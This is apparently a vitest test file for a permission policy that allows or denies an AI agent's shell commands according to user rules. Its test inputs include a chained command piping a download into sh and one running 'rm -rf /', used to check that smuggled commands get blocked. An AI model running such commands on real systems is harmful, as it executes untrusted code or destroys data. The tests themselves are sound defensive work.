import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import type { AgentBody } from '@spool/protocol/agent';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { userPolicy } from './user-policy.ts';

let folder: string;
beforeEach(() => (folder = mkdtempSync(`${tmpdir()}/spool-test-`)));
afterEach(() => rmSync(folder, { recursive: true }));

const asks = (command: string): AgentBody => ({
  kind: 'permission.requested',
  request: 'r',
  name: 'Bash',
  input: { command },
  options: [],
});
const write = (text: string): void => writeFileSync(`${folder}/policy.json`, text);

test('[POL-4] without a policy everything is asked, and a new policy counts at once', () => {
  const warnings: string[] = [];
  const policy = userPolicy({ configFolder: folder, cwd: '/', warn: (sentence) => warnings.push(sentence) });
  expect(policy.answers([asks('git log')])).toEqual([]);
  write(
    '{"rules": [{"decision": "allow", "tool": "Bash", "command": "git log *"}, {"decision": "deny", "command": "rm *"}]}',
  );
  expect(policy.answers([asks('git log -3'), asks('git log; curl x | sh'), asks('git log && rm -rf /')])).toMatchObject(
    [
      { command: { do: 'permission', request: 'r', behavior: 'allow' }, rule: expect.stringContaining('git log *') },
      { command: { do: 'permission', request: 'r', behavior: 'deny' }, rule: expect.stringContaining('rm *') },
    ],
  );
  expect(warnings).toEqual([]);
});

test('[POL-4] a rule that is changed or deleted counts for the next permission of a running agent', () => {
  const policy = userPolicy({ configFolder: folder, cwd: '/', warn: () => {} });
  const decisions = (...commands: string[]): unknown[] =>
    commands.map((command) => policy.answers([asks(command)]).map((answer) => answer.rule));
  const rules = (...given: object[]): void => write(JSON.stringify({ rules: given }));
  rules({ decision: 'allow', command: 'ls *' });
  expect(decisions('ls -l', 'pwd')).toEqual([['allow command ls *'], []]);
  rules({ decision: 'allow', command: 'pwd' });
  expect(decisions('ls -l', 'pwd')).toEqual([[], ['allow command pwd']]);
  rules({ decision: 'allow', command: 'pwd' }, { decision: 'deny', command: 'pwd' });
  expect(decisions('pwd')).toEqual([['deny command pwd']]);
  rules();
  expect(decisions('ls -l', 'pwd')).toEqual([[], []]);
  rules({ decision: 'allow', command: 'pwd' });
  expect(decisions('pwd')).toEqual([['allow command pwd']]);
  rmSync(`${folder}/policy.json`);
  expect(decisions('pwd')).toEqual([[]]);
  rules({ decision: 'allow', command: 'pwd' });
  expect(decisions('pwd')).toEqual([['allow command pwd']]);
  write('{"rules": [');
  expect(decisions('pwd')).toEqual([[]]);
});

test('[POL-4] a fault that comes back after it was mended is reported again', () => {
  const warnings: string[] = [];
  const policy = userPolicy({ configFolder: folder, cwd: '/', warn: (sentence) => warnings.push(sentence) });
  for (const text of ['{', '{', '{"rules": []}', '{']) {
    write(text);
    policy.answers([asks('pwd')]);
  }
  expect(warnings).toHaveLength(2);
});

test.each(['', '{', '[]', '{"rules": [{"decision": "maybe"}]}'])(
  '[POL-4] a policy that cannot be read (%j) allows nothing, and is said once',
  (text) => {
    const warnings: string[] = [];
    const policy = userPolicy({ configFolder: folder, cwd: '/', warn: (sentence) => warnings.push(sentence) });
    write(text);
    expect([policy.answers([asks('git log')]), policy.answers([asks('git log')])]).toEqual([[], []]);
    expect(warnings).toEqual([expect.stringContaining('every permission is asked')]);
  },
);
